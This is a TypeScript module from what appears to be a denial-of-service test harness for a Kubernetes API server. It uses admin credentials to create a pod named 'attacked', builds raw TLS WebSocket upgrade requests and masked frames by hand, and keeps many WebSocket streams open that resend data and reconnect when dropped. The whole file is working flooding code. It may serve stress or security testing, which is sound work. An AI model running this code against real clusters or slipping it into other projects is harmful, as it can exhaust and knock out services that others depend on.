import type { TLSSocket } from "node:tls";
import { pause } from "./attack.ts";
import { floodConnections } from "./flood_connections.ts";
import { createClient, type Target, tlsConnection } from "./target.ts";

const pods = "/api/v1/namespaces/default/pods";
const podName = "attacked";

/** Makes a pod, whose streams are attacked, and waits until it runs; it stays. */
export async function runPod(target: Target, signal: AbortSignal): Promise<string> {
  const client = createClient(target, "admin");
  const container = { name: "c", image: "busybox:1", command: ["sleep", "1000000"] };
  const pod = { apiVersion: "v1", kind: "Pod", metadata: { name: podName }, spec: { containers: [container] } };
  const path = `${pods}/${podName}`;
  for (let shown = ""; !shown.includes('"phase":"Running"') && !signal.aborted; ) {
    await client.send({ method: "POST", path: pods, body: JSON.stringify(pod) });
    await pause(50, signal);
    shown = "";
    await client.send({ path }, (chunk) => {
      shown += chunk;
    });
  }
  client.close();
  return path;
}

/** Asks for a WebSocket with a client's certificate; what is said on it, and whether it is read, is the caller's. */
export function webSocketTo(
  target: Target,
  { path, protocol }: { readonly path: string; readonly protocol: string },
  opened: (socket: TLSSocket) => void,
) {
  const socket = tlsConnection(target, "admin");
  const upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n";
  const key = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
  socket.once("secureConnect", () => {
    socket.write(`GET ${path} HTTP/1.1\r\nHost: x\r\n${upgrade}${key}Sec-WebSocket-Protocol: ${protocol}\r\n\r\n`);
    socket.once("data", () => opened(socket));
  });
  return socket;
}

/** A client's frame, masked with zeros; bytes are characters (latin1). */
export function frame(data: string, { opcode = 2, isFinal = true, isMasked = true } = {}): Buffer {
  const { length } = data;
  const size = Buffer.alloc(length < 126 ? 0 : 8);
  if (size.length > 0) size.writeBigUInt64BE(BigInt(length));
  const head = Buffer.from([opcode | (isFinal ? 0x80 : 0), (isMasked ? 0x80 : 0) | (length < 126 ? length : 127)]);
  return Buffer.concat([head, size, Buffer.alloc(isMasked ? 4 : 0), Buffer.from(data, "latin1")]);
}

/** Keeps so many WebSockets open, each of which says what it has to say again and again; who is cut off comes back. */
export function floodWebSockets(
  { target, signal }: { readonly target: Target; readonly signal: AbortSignal },
  { count, path, protocol, says }: { count: number; path: string; protocol: string; says(index: number): Buffer },
): Promise<void> {
  return floodConnections(signal, {
    count,
    open: (opened) => webSocketTo(target, { path, protocol }, opened),
    says(index) {
      const said = says(index);
      return () => said;
    },
  });
}
